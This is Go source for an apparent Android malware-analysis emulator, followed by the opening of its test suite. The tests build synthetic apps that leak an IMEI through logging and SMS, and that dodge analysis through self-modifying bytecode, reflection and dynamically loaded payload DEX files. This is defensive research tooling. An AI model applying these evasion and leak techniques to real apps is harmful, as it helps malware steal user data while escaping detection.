	return rt
}

// SetLogWriter directs Log.* sink output to w (nil silences it).
func (rt *Runtime) SetLogWriter(w io.Writer) { rt.logWriter = w }

// AddHooks attaches an instrumentation hook set.
func (rt *Runtime) AddHooks(h *Hooks) { rt.hooks = append(rt.hooks, h) }

// RemoveHooks detaches a previously added hook set.
func (rt *Runtime) RemoveHooks(h *Hooks) {
	for i, x := range rt.hooks {
		if x == h {
			rt.hooks = append(rt.hooks[:i], rt.hooks[i+1:]...)
			return
		}
	}
}

// RegisterNative binds a native implementation to a method key
// (Lcls;->name(sig)). Application classes declared native resolve their
// implementation here at call time, like JNI symbol lookup.
func (rt *Runtime) RegisterNative(methodKey string, fn NativeFunc) {
	rt.natives[methodKey] = fn
}

// RegisterMethodHooks installs packer-style method enter/exit callbacks
// (the stand-in for the ART hooking that method-extraction packers do).
// Either may be nil.
func (rt *Runtime) RegisterMethodHooks(enter, exit func(*Method)) {
	if enter != nil {
		rt.methodEnter = append(rt.methodEnter, enter)
	}
	if exit != nil {
		rt.methodExit = append(rt.methodExit, exit)
	}
}

// APK returns the loaded application package, or nil.
func (rt *Runtime) APK() *apk.APK { return rt.apk }

// LoadedDexes returns every DEX file the class linker has processed, in
// load order. Dump-based unpackers read this.
func (rt *Runtime) LoadedDexes() []*dex.File {
	return append([]*dex.File(nil), rt.loadedDexes...)
}

// Sinks returns all recorded sink events.
func (rt *Runtime) Sinks() []SinkEvent { return append([]SinkEvent(nil), rt.sinks...) }

// ResetSinks clears recorded sink events.
func (rt *Runtime) ResetSinks() { rt.sinks = nil }

// SetIntentExtras provides the string extras the launch intent carries
// (the fuzzer's text-input channel).
func (rt *Runtime) SetIntentExtras(extras map[string]string) {
	rt.intentExtras = make(map[string]string, len(extras))
	for k, v := range extras {
		rt.intentExtras[k] = v
	}
}

// ExternalFileContents exposes the external-storage stand-in for tests.
func (rt *Runtime) ExternalFileContents(path string) (string, bool) {
	o, ok := rt.extFiles[path]
	if !ok {
		return "", false
	}
	return o.Str, true
}

// LoadAPK parses and links the package's classes.dex. The parse is memoized
// on the package, so loading the same APK into many runtimes (one per
// collection pass and forced run) parses once; LoadDex never mutates the
// shared File.
func (rt *Runtime) LoadAPK(a *apk.APK) error {
	f, err := a.DexFile()
	if err != nil {
		return fmt.Errorf("art: parse classes.dex: %w", err)
	}
	rt.apk = a
	if _, err := rt.LoadDex(f); err != nil {
		return err
	}
	return nil
}

// LoadDex links every class in the file into the runtime and returns them.
func (rt *Runtime) LoadDex(f *dex.File) ([]*Class, error) {
	// Linking resolves a signature per method reference; memoize them all
	// up front while the file is still confined to this goroutine.
	f.BuildSignatureCache()
	// Pass 1: create shells for classes not yet defined (first definition
	// wins, like ART's class table).
	created := make([]*Class, 0, len(f.Classes))
	for ci := range f.Classes {
		def := &f.Classes[ci]
		desc := f.TypeName(def.Class)
		if rt.lookupClass(desc) != nil {
			continue
		}
		c := &Class{
			Descriptor:  desc,
			AccessFlags: def.AccessFlags,
			File:        f,
			Def:         def,
			Statics:     make(map[string]Value),
			state:       stateLoaded,
			rt:          rt,
		}
		rt.classes[desc] = c
		created = append(created, c)
	}
	// Pass 2: link hierarchy and members.
	nMethods := 0
	for _, c := range created {
		nMethods += len(c.Def.DirectMeths) + len(c.Def.VirtualMeths)
	}
	rt.reserveMethods(nMethods)
	for _, c := range created {
		def := c.Def
		if def.Superclass != dex.NoIndex {
			superDesc := f.TypeName(def.Superclass)
			super := rt.lookupClass(superDesc)
			if super == nil {
				delete(rt.classes, c.Descriptor)
				return nil, fmt.Errorf("art: class %s: unresolved superclass %s",
					c.Descriptor, superDesc)
			}
			c.Super = super
		}
		for _, ti := range def.Interfaces {
			ifcDesc := f.TypeName(ti)
			ifc := rt.lookupClass(ifcDesc)
			if ifc == nil {
				return nil, fmt.Errorf("art: class %s: unresolved interface %s",
					c.Descriptor, ifcDesc)
			}
			c.Interfaces = append(c.Interfaces, ifc)
		}
		for _, ef := range def.StaticFields {
			ref := f.FieldAt(ef.Field)
			c.StaticMeta = append(c.StaticMeta, &Field{
				Class: c, Name: ref.Name, Type: ref.Type,
				AccessFlags: ef.AccessFlags, Static: true,
			})
		}
		for i := range def.StaticValues {
			if i < len(c.StaticMeta) {
				v := def.StaticValues[i]
				c.StaticMeta[i].Init = &v
			}
		}
		for _, ef := range def.InstFields {
			ref := f.FieldAt(ef.Field)
			c.InstanceMeta = append(c.InstanceMeta, &Field{
				Class: c, Name: ref.Name, Type: ref.Type,
				AccessFlags: ef.AccessFlags,
			})
		}
		for li, list := range [][]dex.EncodedMethod{def.DirectMeths, def.VirtualMeths} {
			for mi := range list {
				em := &list[mi]
				ref := f.MethodAt(em.Method)
				params, ret, err := parseSigCached(ref.Signature)
				if err != nil {
					return nil, fmt.Errorf("art: class %s method %s: %w",
						c.Descriptor, ref.Name, err)
				}
				m := rt.newMethod()
				*m = Method{
					Class: c, Name: ref.Name, Signature: ref.Signature,
					AccessFlags: em.AccessFlags, Virtual: li == 1,
					ParamTypes: params, ReturnType: ret,
				}
				if em.Code != nil {
					m.Insns = append([]uint16(nil), em.Code.Insns...)
					m.RegistersSize = int(em.Code.RegistersSize)
					m.InsSize = int(em.Code.InsSize)
					m.Tries = em.Code.Tries
				}
				c.Methods = append(c.Methods, m)
			}
		}
		for _, h := range rt.hooks {
			if h.ClassLoaded != nil {
				h.ClassLoaded(c)
			}
		}
	}
	rt.loadedDexes = append(rt.loadedDexes, f)
	return created, nil
}

// lookupClass resolves a descriptor against the two class tiers: the
// per-runtime table (app classes, array classes) and the framework clone
// slab, which is addressed through the template's shared immutable index so
// NewRuntime never refills a 100+-entry map. Returns nil when undefined.
func (rt *Runtime) lookupClass(descriptor string) *Class {
	if c, ok := rt.classes[descriptor]; ok {
		return c
	}
	if rt.fwLookup != nil {
		if i, ok := rt.fwLookup[descriptor]; ok {
			return rt.fwClass(i)
		}
	}
	return nil
}

// FindClass resolves a class by descriptor. Array classes are synthesized
// on demand.
func (rt *Runtime) FindClass(descriptor string) (*Class, error) {
	if c := rt.lookupClass(descriptor); c != nil {
		return c, nil
	}
	if len(descriptor) > 1 && descriptor[0] == '[' {
		c := &Class{
			Descriptor: descriptor,
			Super:      rt.lookupClass("Ljava/lang/Object;"),
			state:      stateInitialized,
			Statics:    make(map[string]Value),
			rt:         rt,
		}
		rt.classes[descriptor] = c
		return c, nil
	}
	return nil, fmt.Errorf("art: class %s not found", descriptor)
}

// Classes returns all loaded class descriptors in sorted order.
func (rt *Runtime) Classes() []string {
	out := make([]string, 0, len(rt.classes)+len(rt.fwLookup))
	for d := range rt.classes {
		out = append(out, d)
	}
	for d := range rt.fwLookup {
		out = append(out, d)
	}
	sort.Strings(out)
	return out
}

// EnsureInitialized runs static initialization for c if needed.
func (rt *Runtime) EnsureInitialized(c *Class) error {
	return rt.ensureInitialized(rt.newExecState(), c)
}

func (rt *Runtime) ensureInitialized(st *execState, c *Class) error {
	if c.state == stateInitialized || c.state == stateInitializing {
		return nil
	}
	c.state = stateInitializing
	if c.Super != nil {
		if err := rt.ensureInitialized(st, c.Super); err != nil {
			return err
		}
	}
	for _, f := range c.StaticMeta {
		v := rt.zeroValueFor(f.Type)
		if f.Init != nil {
			v = rt.fromEncodedValue(c, *f.Init)
		}
		c.Statics[f.Name] = v
		for _, h := range rt.hooks {
			if h.StaticFieldInit != nil {
				h.StaticFieldInit(c, f, v)
			}
		}
	}
	if clinit := c.findDeclared("<clinit>", "()V"); clinit != nil {
		if _, err := rt.invoke(st, clinit, nil, nil); err != nil {
			c.state = stateInitialized // real ART marks erroneous; keep simple
			return fmt.Errorf("art: <clinit> of %s: %w", c.Descriptor, err)
		}
	}
	c.state = stateInitialized
	for _, h := range rt.hooks {
		if h.ClassInitialized != nil {
			h.ClassInitialized(c)
		}
	}
	return nil
}

func (rt *Runtime) zeroValueFor(typ string) Value {
	switch typ[0] {
	case 'L', '[':
		return NullVal()
	default:
		return IntVal(0)
	}
}

func (rt *Runtime) fromEncodedValue(c *Class, v dex.Value) Value {
	switch v.Kind {
	case dex.ValueString:
		return RefVal(rt.NewString(c.File.String(v.Index)))
	case dex.ValueType:
		desc := c.File.TypeName(v.Index)
		if cls, err := rt.FindClass(desc); err == nil {
			return RefVal(rt.classObject(cls))
		}
		return NullVal()
	case dex.ValueNull:
		return NullVal()
	default:
		return IntVal(v.Int)
	}
}

// NewString allocates a string object.
func (rt *Runtime) NewString(s string) *Object {
	return &Object{Class: rt.stringClass, Str: s}
}

// NewInstance allocates an uninitialized instance of c.
func (rt *Runtime) NewInstance(c *Class) *Object {
	return &Object{Class: c, Fields: make(map[string]Value)}
}

// NewArray allocates an array object with n zeroed elements.
func (rt *Runtime) NewArray(descriptor string, n int) (*Object, error) {
	c, err := rt.FindClass(descriptor)
	if err != nil {
		return nil, err
	}
	elems := make([]Value, n)
	elemZero := IntVal(0)
	if len(descriptor) > 1 && (descriptor[1] == 'L' || descriptor[1] == '[') {
		elemZero = NullVal()
	}
	for i := range elems {
		elems[i] = elemZero
	}
	return &Object{Class: c, Elems: elems}, nil
}

// classObject returns the java/lang/Class object mirroring c.
func (rt *Runtime) classObject(c *Class) *Object {
	if o, ok := rt.classObjects[c]; ok {
		return o
	}
	o := &Object{Class: rt.classClass, Data: c}
	rt.classObjects[c] = o
	return o
}

// NewException creates an exception object of the given class (which must
// exist; unknown classes fall back to java/lang/RuntimeException).
func (rt *Runtime) NewException(descriptor, msg string) *Object {
	c := rt.lookupClass(descriptor)
	if c == nil {
		c = rt.lookupClass("Ljava/lang/RuntimeException;")
	}
	o := rt.NewInstance(c)
	o.SetField("message", RefVal(rt.NewString(msg)))
	return o
}

// Throw returns a ThrownError carrying a new exception object.
func (rt *Runtime) Throw(descriptor, msg string) error {
	return &ThrownError{Obj: rt.NewException(descriptor, msg)}
}

// Call invokes a method by class descriptor, name and signature.
func (rt *Runtime) Call(descriptor, name, signature string, recv *Object, args []Value) (Value, error) {
	c, err := rt.FindClass(descriptor)
	if err != nil {
		return Value{}, err
	}
	st := rt.newExecState()
	if err := rt.ensureInitialized(st, c); err != nil {
		return Value{}, err
	}
	m := c.FindMethod(name, signature)
	if m == nil {
		return Value{}, fmt.Errorf("art: method %s->%s%s not found", descriptor, name, signature)
	}
	return rt.invoke(st, m, recv, args)
}

// CallMethod invokes an already-resolved method.
func (rt *Runtime) CallMethod(m *Method, recv *Object, args []Value) (Value, error) {
	st := rt.newExecState()
	if err := rt.ensureInitialized(st, m.Class); err != nil {
		return Value{}, err
	}
	return rt.invoke(st, m, recv, args)
}

// LaunchActivity instantiates the manifest main activity and drives the
// launch lifecycle (onCreate, onStart, onResume), returning the activity.
// When the launched activity redirects the launch (packer shells do, after
// releasing the original code), the redirect target is launched with the
// full lifecycle and returned instead.
func (rt *Runtime) LaunchActivity() (*Object, error) {
	if rt.apk == nil || rt.apk.Manifest.MainActivity == "" {
		return nil, ErrNoMain
	}
	return rt.launchActivityDesc(rt.apk.Manifest.MainActivity, 0)
}

func (rt *Runtime) launchActivityDesc(desc string, depth int) (*Object, error) {
	if depth > 4 {
		return nil, fmt.Errorf("art: launch redirect loop at %s", desc)
	}
	c, err := rt.FindClass(desc)
	if err != nil {
		return nil, err
	}
	st := rt.newExecState()
	if err := rt.ensureInitialized(st, c); err != nil {
		return nil, err
	}
	activity := rt.NewInstance(c)
	if ctor := c.FindMethod("<init>", "()V"); ctor != nil {
		if _, err := rt.invoke(st, ctor, activity, nil); err != nil {
			return nil, err
		}
	}
	if onCreate := c.FindMethod("onCreate", "(Landroid/os/Bundle;)V"); onCreate != nil {
		if _, err := rt.invoke(st, onCreate, activity, []Value{NullVal()}); err != nil {
			return activity, err
		}
	}
	if target := rt.launchTarget; target != "" && target != desc {
		rt.launchTarget = ""
		return rt.launchActivityDesc(target, depth+1)
	}
	for _, name := range []string{"onStart", "onResume"} {
		if m := c.FindMethod(name, "()V"); m != nil {
			if _, err := rt.invoke(st, m, activity, nil); err != nil {
				return activity, err
			}
		}
	}
	return activity, nil
}

// FinishActivity drives the teardown lifecycle (onPause, onStop, onDestroy).
func (rt *Runtime) FinishActivity(activity *Object) error {
	if activity == nil {
		return fmt.Errorf("art: finish of nil activity")
	}
	st := rt.newExecState()
	for _, name := range []string{"onPause", "onStop", "onDestroy"} {
		if m := activity.Class.FindMethod(name, "()V"); m != nil {
			if _, err := rt.invoke(st, m, activity, nil); err != nil {
				return err
			}
		}
	}
	return nil
}

// Clickables returns the ids of views with registered click listeners in
// registration order.
func (rt *Runtime) Clickables() []int64 {
	var out []int64
	for _, id := range rt.viewOrder {
		if v, ok := rt.views[id]; ok && !v.Field("__listener").IsNull() {
			out = append(out, id)
		}
	}
	return out
}

// PerformClick dispatches onClick to the listener registered on view id.
func (rt *Runtime) PerformClick(id int64) error {
	view, ok := rt.views[id]
	if !ok {
		return fmt.Errorf("art: no view with id %d", id)
	}
	listener := view.Field("__listener")
	if listener.IsNull() {
		return fmt.Errorf("art: view %d has no click listener", id)
	}
	m := listener.Ref.Class.FindMethod("onClick", "(Landroid/view/View;)V")
	if m == nil {
		return fmt.Errorf("art: listener %s lacks onClick", listener.Ref.Class.Descriptor)
	}
	st := rt.newExecState()
	_, err := rt.invoke(st, m, listener.Ref, []Value{RefVal(view)})
	return err
}

func (rt *Runtime) viewByID(id int64) *Object {
	if v, ok := rt.views[id]; ok {
		return v
	}
	v := rt.NewInstance(rt.lookupClass("Landroid/view/View;"))
	v.SetField("__id", IntVal(id))
	v.SetField("__listener", NullVal())
	rt.views[id] = v
	rt.viewOrder = append(rt.viewOrder, id)
	return v
}

func (rt *Runtime) recordSink(ev SinkEvent) {
	rt.sinks = append(rt.sinks, ev)
	for _, h := range rt.hooks {
		if h.SinkCall != nil {
			h.SinkCall(ev)
		}
	}
	if rt.logWriter != nil {
		fmt.Fprintf(rt.logWriter, "[sink:%s] %v taint=%s\n", ev.Sink, ev.Args, ev.Taint)
	}
}
