package art_test

import (
	"errors"
	"strings"
	"testing"

	"dexlego/internal/apimodel"
	"dexlego/internal/art"
	"dexlego/internal/bytecode"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
)

// buildLeakApp builds an activity that reads the IMEI and logs it.
func buildLeakApp(t *testing.T) *art.Runtime {
	t.Helper()
	p := dexgen.New()
	main := p.Class("Lcom/leak/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.LogLeak("LEAK", 0, 2)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("com.leak", "1.0", "Lcom/leak/Main;")
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	return rt
}

func TestLaunchLeakApp(t *testing.T) {
	rt := buildLeakApp(t)
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
	sinks := rt.Sinks()
	if len(sinks) != 1 {
		t.Fatalf("got %d sink events, want 1", len(sinks))
	}
	ev := sinks[0]
	if ev.Sink != apimodel.SinkLog {
		t.Errorf("sink kind = %v", ev.Sink)
	}
	if !ev.Taint.Has(apimodel.TaintIMEI) {
		t.Errorf("sink taint = %v, want IMEI", ev.Taint)
	}
	if !ev.Leaky() {
		t.Error("event should be leaky")
	}
	if ev.Caller != "Lcom/leak/Main;->onCreate(Landroid/os/Bundle;)V" {
		t.Errorf("caller = %q", ev.Caller)
	}
	if len(ev.Args) != 2 || ev.Args[1] != art.DefaultPhone().IMEI {
		t.Errorf("args = %v", ev.Args)
	}
}

func TestArithmeticAndLoops(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lcalc/C;", "")
	// sum of 0..n-1
	cls.Static("sum", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.Const(0, 0) // acc
		a.Const(1, 0) // i
		a.Label("loop")
		a.If(bytecode.OpIfGe, 1, a.P(0), "done")
		a.Binop(bytecode.OpAddInt, 0, 0, 1)
		a.AddLit(1, 1, 1)
		a.Goto("loop")
		a.Label("done")
		a.Return(0)
	})
	cls.Static("mixed", "I", []string{"I", "I"}, func(a *dexgen.Asm) {
		a.Binop(bytecode.OpMulInt, 0, a.P(0), a.P(1))
		a.Binop(bytecode.OpXorInt, 0, 0, a.P(0))
		a.BinopLit8(bytecode.OpShlIntLit8, 0, 0, 2)
		a.Binop(bytecode.OpRemInt, 0, 0, a.P(1))
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	res, err := rt.Call("Lcalc/C;", "sum", "(I)I", nil, []art.Value{art.IntVal(10)})
	if err != nil {
		t.Fatal(err)
	}
	if res.Int != 45 {
		t.Errorf("sum(10) = %d, want 45", res.Int)
	}
	want := int64(int32((7*9 ^ 7) << 2 % 9))
	res, err = rt.Call("Lcalc/C;", "mixed", "(II)I", nil, []art.Value{art.IntVal(7), art.IntVal(9)})
	if err != nil {
		t.Fatal(err)
	}
	if res.Int != want {
		t.Errorf("mixed(7,9) = %d, want %d", res.Int, want)
	}
}

type Value = art.Value

func TestExceptionHandling(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lex/E;", "")
	// safeDiv returns a/b, or -1 on ArithmeticException.
	cls.Method(dexgen.MethodSpec{Name: "safeDiv", Ret: "I", Params: []string{"I", "I"}, Static: true}, func(a *dexgen.Asm) {
		a.Label("try_start")
		a.Binop(bytecode.OpDivInt, 0, a.P(0), a.P(1))
		a.Label("try_end")
		a.Return(0)
		a.Label("handler")
		a.MoveException(1)
		a.Const(0, -1)
		a.Return(0)
		a.Catch("try_start", "try_end", "Ljava/lang/ArithmeticException;", "handler")
	})
	// boom always throws an uncaught exception.
	cls.Static("boom", "V", nil, func(a *dexgen.Asm) {
		a.NewInstance(0, "Ljava/lang/RuntimeException;")
		a.ConstString(1, "kaboom")
		a.InvokeDirect("Ljava/lang/RuntimeException;", "<init>", "(Ljava/lang/String;)V", 0, 1)
		a.Throw(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}

	res, err := rt.Call("Lex/E;", "safeDiv", "(II)I", nil, []art.Value{art.IntVal(12), art.IntVal(3)})
	if err != nil || res.Int != 4 {
		t.Errorf("safeDiv(12,3) = %v, %v", res, err)
	}
	res, err = rt.Call("Lex/E;", "safeDiv", "(II)I", nil, []art.Value{art.IntVal(12), art.IntVal(0)})
	if err != nil || res.Int != -1 {
		t.Errorf("safeDiv(12,0) = %v, %v; want -1 via handler", res, err)
	}

	_, err = rt.Call("Lex/E;", "boom", "()V", nil, nil)
	var thrown *art.ThrownError
	if !errors.As(err, &thrown) {
		t.Fatalf("boom: got %v, want ThrownError", err)
	}
	if thrown.Obj.Class.Descriptor != "Ljava/lang/RuntimeException;" {
		t.Errorf("exception class = %s", thrown.Obj.Class.Descriptor)
	}
	if !strings.Contains(thrown.Error(), "kaboom") {
		t.Errorf("error message = %q", thrown.Error())
	}

	// With an Unhandled hook that clears, the exception is tolerated.
	cleared := 0
	rt.AddHooks(&art.Hooks{
		Unhandled: func(m *art.Method, pc int, ex *art.Object) bool {
			cleared++
			return true
		},
	})
	if _, err := rt.Call("Lex/E;", "boom", "()V", nil, nil); err != nil {
		t.Errorf("boom with clearing hook: %v", err)
	}
	if cleared != 1 {
		t.Errorf("cleared = %d, want 1", cleared)
	}
}

// TestSelfModifyingCode reproduces the paper's Code 1: a native method
// rewrites the bytecode of advancedLeak between loop iterations, swapping a
// call to normal() for a call to sink().
func TestSelfModifyingCode(t *testing.T) {
	p := dexgen.New()
	main := p.Class("Lcom/test/Main;", "Landroid/app/Activity;")
	main.Ctor("Landroid/app/Activity;", nil)
	main.Native("bytecodeTamper", "V", "I")
	main.Virtual("getSensitiveData", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.GetIMEI(0, 1)
		a.ReturnObj(0)
	})
	main.Virtual("normal", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
		a.ReturnVoid()
	})
	main.Virtual("sink", "V", []string{"Ljava/lang/String;"}, func(a *dexgen.Asm) {
		a.SendSMS("800-123-456", a.P(0), 0)
		a.ReturnVoid()
	})
	main.Virtual("advancedLeak", "V", nil, func(a *dexgen.Asm) {
		a.InvokeVirtual("Lcom/test/Main;", "getSensitiveData", "()Ljava/lang/String;", a.This())
		a.MoveResultObject(0)
		a.Const(1, 0)
		a.Label("loop")
		a.Const(2, 2)
		a.If(bytecode.OpIfGe, 1, 2, "end")
		a.Label("callsite")
		a.InvokeVirtual("Lcom/test/Main;", "normal", "(Ljava/lang/String;)V", a.This(), 0)
		a.InvokeVirtual("Lcom/test/Main;", "bytecodeTamper", "(I)V", a.This(), 1)
		a.AddLit(1, 1, 1)
		a.Goto("loop")
		a.Label("end")
		a.ReturnVoid()
	})
	main.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.InvokeVirtual("Lcom/test/Main;", "advancedLeak", "()V", a.This())
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("com.test", "1.0", "Lcom/test/Main;")
	if err != nil {
		t.Fatal(err)
	}

	rt := art.NewRuntime(art.DefaultPhone())
	// The JNI tamper function: swap the method index at the normal()
	// call site between normal and sink.
	rt.RegisterNative("Lcom/test/Main;->bytecodeTamper(I)V",
		func(env *art.Env, recv *art.Object, args []art.Value) (art.Value, error) {
			i := args[0].Int
			err := env.TamperMethod("Lcom/test/Main;", "advancedLeak",
				func(insns []uint16) []uint16 {
					// Find the invoke-virtual {this, v0} call site for
					// normal/sink and flip its method index.
					for pc := 0; pc < len(insns); {
						in, w, derr := bytecode.Decode(insns, pc)
						if derr != nil {
							t.Fatalf("tamper decode: %v", derr)
						}
						if in.Op == bytecode.OpInvokeVirtual {
							ref := refOfIndex(t, env, in.Index)
							if i == 0 && ref == "normal" {
								insns[pc+1] = methodIdxOf(t, env, "sink")
								return nil
							}
							if i == 1 && ref == "sink" {
								insns[pc+1] = methodIdxOf(t, env, "normal")
								return nil
							}
						}
						pc += w
						if pw, ok := bytecode.PayloadAt(insns, pc); ok {
							pc += pw
						}
					}
					return nil
				})
			return art.Value{}, err
		})
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
	// Exactly one SMS leak must have occurred (second loop iteration runs
	// the tampered call to sink with the already-fetched IMEI).
	var smsLeaks int
	for _, ev := range rt.Sinks() {
		if ev.Sink == apimodel.SinkSMS && ev.Taint.Has(apimodel.TaintIMEI) {
			smsLeaks++
		}
	}
	if smsLeaks != 1 {
		t.Fatalf("sms leaks = %d, want exactly 1 (self-modifying flow)", smsLeaks)
	}
}

// refOfIndex resolves a method index to its bare name in the app dex.
func refOfIndex(t *testing.T, env *art.Env, idx uint32) string {
	t.Helper()
	dexes := env.Runtime().LoadedDexes()
	return dexes[0].MethodAt(idx).Name
}

// methodIdxOf finds the method index with the given name in the app dex.
func methodIdxOf(t *testing.T, env *art.Env, name string) uint16 {
	t.Helper()
	f := env.Runtime().LoadedDexes()[0]
	for i := range f.Methods {
		if f.MethodAt(uint32(i)).Name == name {
			return uint16(i)
		}
	}
	t.Fatalf("method %s not found", name)
	return 0
}

func TestReflectionInvoke(t *testing.T) {
	p := dexgen.New()
	cls := p.Class("Lrefl/R;", "Landroid/app/Activity;")
	cls.Ctor("Landroid/app/Activity;", nil)
	cls.Virtual("secret", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.ConstString(0, "secret-value")
		a.ReturnObj(0)
	})
	cls.Virtual("callViaReflection", "Ljava/lang/String;", nil, func(a *dexgen.Asm) {
		a.ConstString(0, "refl.R")
		a.InvokeStatic("Ljava/lang/Class;", "forName", "(Ljava/lang/String;)Ljava/lang/Class;", 0)
		a.MoveResultObject(0)
		a.ConstString(1, "secret")
		a.InvokeVirtual("Ljava/lang/Class;", "getMethod",
			"(Ljava/lang/String;)Ljava/lang/reflect/Method;", 0, 1)
		a.MoveResultObject(1)
		a.Const(2, 0) // null args array
		a.InvokeVirtual("Ljava/lang/reflect/Method;", "invoke",
			"(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", 1, a.This(), 2)
		a.MoveResultObject(0)
		a.CheckCast(0, "Ljava/lang/String;")
		a.ReturnObj(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	var reflTargets []string
	rt.AddHooks(&art.Hooks{
		ReflectiveCall: func(caller *art.Method, pc int, target *art.Method) {
			reflTargets = append(reflTargets, target.Key())
		},
	})
	obj := rt.NewInstance(mustClass(t, rt, "Lrefl/R;"))
	res, err := rt.Call("Lrefl/R;", "callViaReflection", "()Ljava/lang/String;", obj, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Ref == nil || res.Ref.Str != "secret-value" {
		t.Errorf("reflective result = %v", res)
	}
	if len(reflTargets) != 1 || reflTargets[0] != "Lrefl/R;->secret()Ljava/lang/String;" {
		t.Errorf("reflective targets = %v", reflTargets)
	}
}

func mustClass(t *testing.T, rt *art.Runtime, desc string) *art.Class {
	t.Helper()
	c, err := rt.FindClass(desc)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func TestDynamicDexLoading(t *testing.T) {
	// Payload dex with one class.
	payload := dexgen.New()
	payload.Class("Ldyn/Payload;", "").Static("magic", "I", nil, func(a *dexgen.Asm) {
		a.Const(0, 1234)
		a.Return(0)
	})
	payloadBytes, err := payload.Bytes()
	if err != nil {
		t.Fatal(err)
	}

	// Host app loads it through DexClassLoader.
	p := dexgen.New()
	host := p.Class("Lhost/Main;", "Landroid/app/Activity;")
	host.Ctor("Landroid/app/Activity;", nil)
	host.Virtual("onCreate", "V", []string{"Landroid/os/Bundle;"}, func(a *dexgen.Asm) {
		a.NewInstance(0, "Ldalvik/system/DexClassLoader;")
		a.ConstString(1, "payload.dex")
		a.InvokeDirect("Ldalvik/system/DexClassLoader;", "<init>", "(Ljava/lang/String;)V", 0, 1)
		a.InvokeStatic("Ldyn/Payload;", "magic", "()I")
		a.MoveResult(2)
		a.InvokeStatic("Ljava/lang/String;", "valueOf", "(I)Ljava/lang/String;", 2)
		a.MoveResultObject(3)
		a.LogLeak("dyn", 3, 4)
		a.ReturnVoid()
	})
	pkg, err := p.BuildAPK("com.host", "1.0", "Lhost/Main;")
	if err != nil {
		t.Fatal(err)
	}
	pkg.AddAsset("payload.dex", payloadBytes)

	rt := art.NewRuntime(art.DefaultPhone())
	dynLoads := 0
	rt.AddHooks(&art.Hooks{
		DynamicDex: func(f *dex.File, classes []*art.Class) { dynLoads++ },
	})
	if err := rt.LoadAPK(pkg); err != nil {
		t.Fatal(err)
	}
	if _, err := rt.LaunchActivity(); err != nil {
		t.Fatal(err)
	}
	sinks := rt.Sinks()
	if len(sinks) != 1 || sinks[0].Args[1] != "1234" {
		t.Fatalf("sinks = %+v", sinks)
	}
	if dynLoads != 1 {
		t.Errorf("dynLoads = %d, want 1", dynLoads)
	}
}

func TestBranchOverride(t *testing.T) {
	p := dexgen.New()
	p.Class("Lfx/F;", "").Static("gated", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.IfZ(bytecode.OpIfNez, a.P(0), "taken")
		a.Const(0, 111)
		a.Return(0)
		a.Label("taken")
		a.Const(0, 222)
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	res, err := rt.Call("Lfx/F;", "gated", "(I)I", nil, []art.Value{art.IntVal(0)})
	if err != nil || res.Int != 111 {
		t.Fatalf("gated(0) = %v, %v", res, err)
	}
	// Force the branch.
	rt.AddHooks(&art.Hooks{
		Branch: func(m *art.Method, pc int, in bytecode.Inst, taken bool) (bool, bool) {
			return true, true
		},
	})
	res, err = rt.Call("Lfx/F;", "gated", "(I)I", nil, []art.Value{art.IntVal(0)})
	if err != nil || res.Int != 222 {
		t.Fatalf("forced gated(0) = %v, %v; want 222", res, err)
	}
}

func TestSwitchDispatch(t *testing.T) {
	p := dexgen.New()
	p.Class("Lsw/S;", "").Static("pick", "I", []string{"I"}, func(a *dexgen.Asm) {
		a.SparseSwitch(a.P(0), []int32{1, 5, 100}, []string{"one", "five", "hundred"})
		a.Const(0, -1)
		a.Return(0)
		a.Label("one")
		a.Const(0, 10)
		a.Return(0)
		a.Label("five")
		a.Const(0, 50)
		a.Return(0)
		a.Label("hundred")
		a.Const(0, 1000)
		a.Return(0)
	})
	f, err := p.Finish()
	if err != nil {
		t.Fatal(err)
	}
	rt := art.NewRuntime(art.DefaultPhone())
	if _, err := rt.LoadDex(f); err != nil {
		t.Fatal(err)
	}
	for in, want := range map[int64]int64{1: 10, 5: 50, 100: 1000, 7: -1} {
		res, err := rt.Call("Lsw/S;", "pick", "(I)I", nil, []art.Value{art.IntVal(in)})
		if err != nil {
			t.Fatal(err)
		}
		if res.Int != want {
			t.Errorf("pick(%d) = %d, want %d", in, res.Int, want)
		}
	}
}

func TestViewsAndClicks(t *testing.T) {
	p := dexgen.New()
	listener := p.Class("Lui/L;", "", "Landroid/view/View$OnClickListener;")
	listener.Ctor("Ljava/lang/Object;", nil)
